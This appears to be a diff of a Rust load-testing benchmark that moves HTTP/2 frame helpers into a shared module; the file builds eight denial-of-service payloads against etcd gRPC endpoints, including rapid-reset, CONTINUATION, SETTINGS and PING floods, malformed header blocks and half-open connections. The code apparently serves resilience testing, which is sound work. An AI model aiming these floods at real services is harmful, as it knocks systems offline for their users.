@@ -24,7 +24,7 @@ use revd_loadgen::report::{bytes, table, time};
 use revd_loadgen::result::{Run, median};
 use revd_loadgen::servers::{Servers, Spec};
 use revd_proto::http2::PREFACE;
-use revd_proto::http2::hpack::literal;
+use revd_proto::raw::{call_block, frame};
 use rustix::process::{Resource, Rlimit};
 
 const RATE: f64 = 2_000.0;
@@ -39,35 +39,27 @@ type Attack = (&'static str, fn() -> Vec<u8>, fn(&TcpStream));
 
 const ATTACKS: [Attack; 8] = [
     ("rapid reset", rapid_reset, |_| {}),
-    ("continuations", || [frame(1, 0, 1, &call("/x")), frame(9, 0, 1, &[]).repeat(20_000)].concat(), |_| {}),
+    (
+        "continuations",
+        || [frame(1, 0, 1, &call_block("/x")), frame(9, 0, 1, &[]).repeat(20_000)].concat(),
+        |_| {},
+    ),
     ("settings", || frame(4, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(20_000), |_| {}),
     ("pings", || frame(6, 0, 0, &[7; 8]).repeat(20_000), |_| {}),
     ("empty data", empty_data, |_| {}),
     ("broken header blocks", || frame(1, 5, 1, &[0xff; 40]), |_| {}),
     ("ranges nobody takes", ranges, |_| std::thread::park_timeout(Duration::from_millis(200))),
-    ("half-open connections", || frame(1, 0, 1, &call("/etcdserverpb.KV/Put")), half_open),
+    ("half-open connections", || frame(1, 0, 1, &call_block("/etcdserverpb.KV/Put")), half_open),
 ];
 
-fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
-    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
-    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
-}
-
-fn call(path: &str) -> Vec<u8> {
-    let mut block = vec![0x83, 0x86];
-    literal(&mut block, b":path", path.as_bytes(), false);
-    literal(&mut block, b"content-type", b"application/grpc", false);
-    block
-}
-
 fn rapid_reset() -> Vec<u8> {
-    let head = call("/etcdserverpb.KV/Range");
+    let head = call_block("/etcdserverpb.KV/Range");
     let pair = |at: u32| [frame(1, 4, 1 + 2 * at, &head), frame(3, 0, 1 + 2 * at, &[0, 0, 0, 8])].concat();
     (0..20_000).flat_map(pair).collect()
 }
 
 fn empty_data() -> Vec<u8> {
-    let begun = frame(1, 4, 1, &call("/etcdserverpb.Watch/Watch"));
+    let begun = frame(1, 4, 1, &call_block("/etcdserverpb.Watch/Watch"));
     [begun, frame(0, 0, 1, &[]).repeat(20_000)].concat()
 }
 
@@ -75,7 +67,8 @@ fn empty_data() -> Vec<u8> {
 fn ranges() -> Vec<u8> {
     let message = [&[0, 0, 0, 0, 6][..], &[0x0a, 1, 0, 0x12, 1, 0]].concat();
     let ask = |at: u32| {
-        [frame(1, 4, 1 + 2 * at, &call("/etcdserverpb.KV/Range")), frame(0, 1, 1 + 2 * at, &message)].concat()
+        [frame(1, 4, 1 + 2 * at, &call_block("/etcdserverpb.KV/Range")), frame(0, 1, 1 + 2 * at, &message)]
+            .concat()
     };
     (0..1_000).flat_map(ask).collect()
 }
